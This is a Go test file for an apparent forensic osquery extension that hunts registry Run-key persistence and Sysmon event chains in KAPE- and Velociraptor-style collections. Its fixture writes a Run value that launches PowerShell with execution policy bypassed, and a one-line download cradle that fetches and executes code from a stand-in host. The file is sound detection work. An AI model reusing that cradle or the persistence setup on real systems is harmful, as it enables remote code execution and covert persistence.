package sysmonchain

import (
	"archive/zip"
	"compress/gzip"
	"context"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/osquery/osquery-go/plugin/table"

	"github.com/runkeyhunt/runkeyhunt/tables/chain"
	"github.com/runkeyhunt/runkeyhunt/tables/host"
	"github.com/runkeyhunt/runkeyhunt/tables/input"
	"github.com/runkeyhunt/runkeyhunt/tables/registry/hivefile/hivetest"
	"github.com/runkeyhunt/runkeyhunt/tables/runkeypayloads"
)

const aliceSID = "S-1-5-21-1111111111-2222222222-3333333333-1001"

// kapeTree builds a KAPE-style collection under root/C: a SOFTWARE hive
// whose ProfileList names alice, alice's NTUSER.DAT with a Run value
// launching a script in C:\Users\Public, that script, and the Sysmon
// scenario log under winevt\Logs.
func kapeTree(t *testing.T) string {
	t.Helper()
	hivetest.RequireTools(t)
	root := t.TempDir()
	drive := filepath.Join(root, "C")
	hivetest.BuildSoftwareHiveAt(t, filepath.Join(drive, "Windows", "System32", "config"), "Windows Registry Editor Version 5.00\r\n\r\n"+
		"[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"+
		`"SecurityHealth"="C:\\Windows\\System32\\SecurityHealthSystray.exe"`+"\r\n"+
		"[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\"+aliceSID+"]\r\n"+
		`"ProfileImagePath"="C:\\Users\\alice"`+"\r\n")
	hivetest.BuildUserHiveAt(t, filepath.Join(drive, "Users", "alice"), "Windows Registry Editor Version 5.00\r\n\r\n"+
		"[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"+
		`"Updater"="powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\Public\\update.ps1"`+"\r\n")
	script := "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\r\n"
	mustWrite(t, filepath.Join(drive, "Users", "Public", "update.ps1"), []byte(script))
	events, err := os.ReadFile(filepath.Join(scenarioDir, "scenario.xml"))
	if err != nil {
		t.Fatal(err)
	}
	mustWrite(t, filepath.Join(drive, "Windows", "System32", "winevt", "Logs", "Microsoft-Windows-Sysmon%4Operational.xml"), events)
	mustWrite(t, filepath.Join(drive, "Users", "alice", "AppData", "Local", "Microsoft", "Windows", "UsrClass.dat"), []byte("not read"))
	return root
}

func mustWrite(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

// zipTree zips the files under root, each member named prefix + its path
// with the top directory C spelled drive.
func zipTree(t *testing.T, root, dst, prefix, drive string) {
	t.Helper()
	out, err := os.Create(dst)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(out)
	err = filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		rel = filepath.ToSlash(rel)
		rel = drive + strings.TrimPrefix(rel, "C")
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		w, err := zw.Create(prefix + rel)
		if err != nil {
			return err
		}
		_, err = w.Write(data)
		return err
	})
	if err == nil {
		err = zw.Close()
	}
	if err == nil {
		err = out.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
}

// canonical renders rows with source_file made relative to the source and
// the drive spelled C, sorted.
func canonical(rows []map[string]string, sourceRoot, drive string) []string {
	var out []string
	for _, r := range rows {
		var keys []string
		for k := range r {
			if k != "source" {
				keys = append(keys, k)
			}
		}
		sort.Strings(keys)
		var sb strings.Builder
		for _, k := range keys {
			v := r[k]
			if k == "source_file" {
				v = strings.TrimLeft(filepath.ToSlash(strings.TrimPrefix(v, sourceRoot)), "/")
				if rest, ok := strings.CutPrefix(v, drive+"/"); ok {
					v = "C/" + rest
				}
			}
			fmt.Fprintf(&sb, "%s=%s|", k, v)
		}
		out = append(out, sb.String())
	}
	sort.Strings(out)
	return out
}

// A zip of a KAPE-style collection (and a Velociraptor-style one) gives
// the same rows as the same files unpacked, users are named from
// ProfileList, and file payloads resolve inside the collection.
func TestCollectionZipSameAsUnpacked(t *testing.T) {
	root := kapeTree(t)
	kapeZip := filepath.Join(t.TempDir(), "kape.zip")
	zipTree(t, root, kapeZip, "", "C")
	veloZip := filepath.Join(t.TempDir(), "velo.zip")
	zipTree(t, root, veloZip, "uploads/auto/", "C%3A")
	ctx := context.Background()

	type variant struct{ source, root, drive string }
	variants := []variant{{root, root, "C"}, {kapeZip, kapeZip + "!", "C"}, {veloZip, veloZip + "!uploads/auto", "C%3A"}}
	var regWant, chainWant []string
	for i, v := range variants {
		regRows, err := runkeypayloads.New(runkeypayloads.Options{}).Rows(ctx, map[string]string{"source": v.source})
		if err != nil {
			t.Fatalf("%s: run_key_payloads: %v", v.source, err)
		}
		chainRows, err := New(Options{}).Rows(ctx, map[string]string{"source": v.source})
		if err != nil {
			t.Fatalf("%s: sysmon_reg_net_chain: %v", v.source, err)
		}
		regGot, chainGot := canonical(regRows, v.root, v.drive), canonical(chainRows, v.root, v.drive)
		if i == 0 {
			regWant, chainWant = regGot, chainGot
			var updater map[string]string
			for _, r := range regRows {
				if r["name"] == "Updater" {
					updater = r
				}
			}
			if updater == nil || updater["username"] != "alice" || updater["sid"] != aliceSID || updater["payload_exists"] != "1" || updater["payload_path"] != `C:\Users\Public\update.ps1` {
				t.Errorf("Updater row: user, SID or payload not resolved in the collection: %v", updater)
			}
			if len(chainRows) == 0 {
				t.Error("no chain rows from the collection's event log")
			}
			continue
		}
		if strings.Join(regGot, "\n") != strings.Join(regWant, "\n") {
			t.Errorf("%s: run_key_payloads rows differ from the unpacked tree:\n%s\n---\n%s", v.source, strings.Join(regGot, "\n"), strings.Join(regWant, "\n"))
		}
		if strings.Join(chainGot, "\n") != strings.Join(chainWant, "\n") {
			t.Errorf("%s: sysmon_reg_net_chain rows differ from the unpacked tree (%d vs %d rows)", v.source, len(chainGot), len(chainWant))
		}
	}
	// Direct calls of the per-source functions agree too.
	if rows, err := runkeypayloads.Generate(ctx, kapeZip, runkeypayloads.Options{}); err != nil || len(rows) != len(regWant) {
		t.Errorf("runkeypayloads.Generate(zip): %d rows, %v", len(rows), err)
	}
	if rows, err := Generate(ctx, emptyQC(), kapeZip, chain.DefaultWindow, Options{}); err != nil || len(rows) != len(chainWant) {
		t.Errorf("Generate(zip): %d rows, %v", len(rows), err)
	}
}

// A cancelled request stops both tables with the context's error.
func TestGenerateCancelled(t *testing.T) {
	src := filepath.Join(scenarioDir, "scenario.xml")
	reg := filepath.Join(t.TempDir(), "run.reg")
	mustWrite(t, reg, []byte("Windows Registry Editor Version 5.00\r\n\r\n"+
		"[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"b.exe\"\r\n"))
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	for _, source := range []string{src, reg, src + "," + reg} {
		if rows, err := New(Options{}).Rows(ctx, map[string]string{"source": source}); err != context.Canceled {
			t.Errorf("sysmon_reg_net_chain %s: want context.Canceled, got %d rows, %v", source, len(rows), err)
		}
		if rows, err := runkeypayloads.New(runkeypayloads.Options{}).Rows(ctx, map[string]string{"source": source}); err != context.Canceled {
			t.Errorf("run_key_payloads %s: want context.Canceled, got %d rows, %v", source, len(rows), err)
		}
	}
	// Cancelled while reading: the partial rows are not returned.
	ctx, cancel = context.WithTimeout(context.Background(), time.Nanosecond)
	defer cancel()
	time.Sleep(time.Millisecond)
	if rows, err := Generate(ctx, emptyQC(), src, chain.DefaultWindow, Options{}); err != context.DeadlineExceeded || rows != nil {
		t.Errorf("deadline: want no rows and DeadlineExceeded, got %d rows, %v", len(rows), err)
	}
}

func emptyQC() table.QueryContext {
	return table.QueryContext{Constraints: map[string]table.ConstraintList{}}
}

// A window whose nanoseconds overflow time.Duration wrapped negative and
// was used silently (seen while writing FuzzGenerateConstraints).
func TestWindowOverflow(t *testing.T) {
	_, err := New(Options{}).Rows(context.Background(), map[string]string{"source": filepath.Join(scenarioDir, "scenario.xml"), "window": "9999999999"})
	if err == nil || !strings.Contains(err.Error(), "9999999999") {
		t.Errorf("window 9999999999: want an error naming it, got %v", err)
	}
}

// Real EVTX logs (../shared/data, not in the repository) give the same
// rows loose, as a zip member and gzipped, with the in-memory bound far
// below their size: EVTX is read front to back through a small window.
func TestCompressedEVTXSameRows(t *testing.T) {
	var logs []string
	for _, p := range []string{"../../../shared/data/seed/registryautorun.evtx", "../../../shared/data/evtx-corpus/sysmon.evtx"} {
		if _, err := os.Stat(p); err == nil {
			logs = append(logs, p)
		}
	}
	if len(logs) == 0 {
		t.Skip("no EVTX in ../shared/data (real logs are not in the repository)")
	}
	dir := t.TempDir()
	zipPath := filepath.Join(dir, "logs.zip")
	out, err := os.Create(zipPath)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(out)
	var gzs []string
	for i, p := range logs {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		w, _ := zw.Create(fmt.Sprintf("C/Windows/System32/winevt/Logs/%d.evtx", i))
		w.Write(data)
		gzPath := filepath.Join(dir, fmt.Sprintf("%d.evtx.gz", i))
		f, _ := os.Create(gzPath)
		gw := gzip.NewWriter(f)
		gw.Write(data)
		gw.Close()
		f.Close()
		gzs = append(gzs, gzPath)
	}
	zw.Close()
	out.Close()
	opts := Options{Open: host.Options{Limits: input.Limits{MaxBufferedBytes: 64 << 10}}.Open}
	rows := func(source string) []string {
		t.Helper()
		got, err := New(opts).Rows(context.Background(), map[string]string{"source": source})
		if err != nil {
			t.Fatalf("%s: %v", source, err)
		}
		for _, r := range got {
			r["source_file"] = ""
		}
		return canonical(got, "", "C")
	}
	want := rows(input.JoinSpec(logs))
	if len(want) == 0 {
		t.Fatal("no rows from the real logs")
	}
	for _, source := range []string{zipPath, input.JoinSpec(gzs)} {
		if got := rows(source); strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Errorf("%s: %d rows, want the %d of the loose files", source, len(got), len(want))
		}
	}
}
